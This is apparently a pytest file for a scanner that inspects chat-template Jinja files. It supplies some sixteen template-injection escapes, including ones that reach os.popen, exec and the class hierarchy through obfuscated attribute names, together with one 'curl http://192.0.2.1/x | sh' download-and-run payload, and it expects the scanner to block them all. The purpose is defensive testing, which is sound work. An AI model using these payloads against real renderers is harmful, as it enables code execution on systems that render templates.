"""Templates: what an unprotected renderer would do, and the honest ones that every chat checkpoint has."""

import pytest

from scanner.finding import Verdict
from tests.hostile.scanning import blocked_for, scan

ESCAPES = {
    "globals of a helper": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "item for attribute": "{{ lipsum['__globals__']['os']['popen']('id') }}",
    "attr filter": "{{ lipsum|attr('__globals__')|attr('get')('os')|attr('popen')('id') }}",
    "a name put together": "{% set a = '__glo' ~ 'bals__' %}{{ lipsum|attr(a) }}",
    "a name in escapes": "{{ messages|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fmro\\x5f\\x5f') }}",
    "a name formatted": "{{ messages|attr('%s%s'|format('__ba', 'se__')) }}",
    "a name joined": "{{ messages|attr(['__ba', 'se__']|join) }}",
    "every class": "{% for c in ().__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "the caller's data": "{{ messages[0].content.__init__.__globals__ }}",
    "inside a macro": "{% macro m(x) %}{{ x.__init__.__globals__ }}{% endmacro %}{{ m(cycler) }}",
    "inside a call block": "{% macro m() %}{{ caller() }}{% endmacro %}{% call m() %}{{ ''.__class__.__mro__ }}{% endcall %}",
    "map": "{{ [cycler]|map(attribute='__init__.__globals__')|list }}",
    "in a condition": "{% if x %}{% elif messages.__class__.__mro__ %}{% endif %}",
    "in a block": "{% filter upper %}{{ self.__init__.__globals__ }}{% endfilter %}",
    "in a with": "{% with a = joiner.__init__ %}{{ a.__globals__ }}{% endwith %}",
    "builtins": "{{ namespace.__init__.__globals__.__builtins__.exec('import os') }}",
}
CHATML = """{%- macro render(m) -%}<|im_start|>{{ m.role }}
{{ m['content'] | trim }}<|im_end|>{%- endmacro -%}
{%- set ns = namespace(system='', n=0) -%}
{%- for message in messages -%}
{%- if message.role == 'system' -%}
{%- set ns.system = message['content'].split('</think>')[-1].lstrip('\\n') -%}
{%- elif loop.first and message['role'] not in ['user', 'assistant'] -%}
{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}
{%- else -%}{% generation %}{{ render(message) }}{% endgeneration %}
{%- endif -%}
{%- for call in message.tool_calls -%}{{ call.function.arguments | tojson(indent=2) }}{%- endfor -%}
{%- for key, value in message.items() if value is string -%}{{ key ~ value[1:] }}{% break %}{%- endfor -%}
{%- endfor -%}
{%- if add_generation_prompt -%}{{ '<|im_start|>assistant\\n' }}{{ strftime_now('%d %b %Y') }}{%- endif -%}
{%- set order = messages|selectattr('role', 'equalto', 'user')|map(attribute='content')|join(', ') -%}
{% do ns.update({'n': ns.n + 1}) %}{{ messages[loop.index0 - 1]['ro' + 'le'] }}"""


@pytest.mark.parametrize("template", ESCAPES.values(), ids=ESCAPES)
def test_a_walk_out_of_the_template_is_blocked(template):
    assert scan(template.encode(), "chat_template.jinja").verdict is Verdict.BLOCKED


def test_what_it_does_at_the_end_has_its_own_name():
    template = "{{ cycler.__init__.__globals__.os.popen('curl http://192.0.2.1/x | sh').read() }}"
    assert blocked_for(scan(template.encode(), "a.jinja2")) == {"download-and-run"}


def test_an_honest_template_is_clean():
    assert scan(CHATML.encode(), "chat_template.jinja").verdict is Verdict.CLEAN


def test_a_template_that_does_not_parse_is_told():
    report = scan(b"{% for x in %}{{ x", "chat_template.jinja")
    assert {f.rule for f in report.findings} == {"unreadable-artifact"}
    deep = "{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}"
    report = scan(deep.encode(), "chat_template.jinja")
    assert report.failure is None
    assert report.verdict is not Verdict.CLEAN
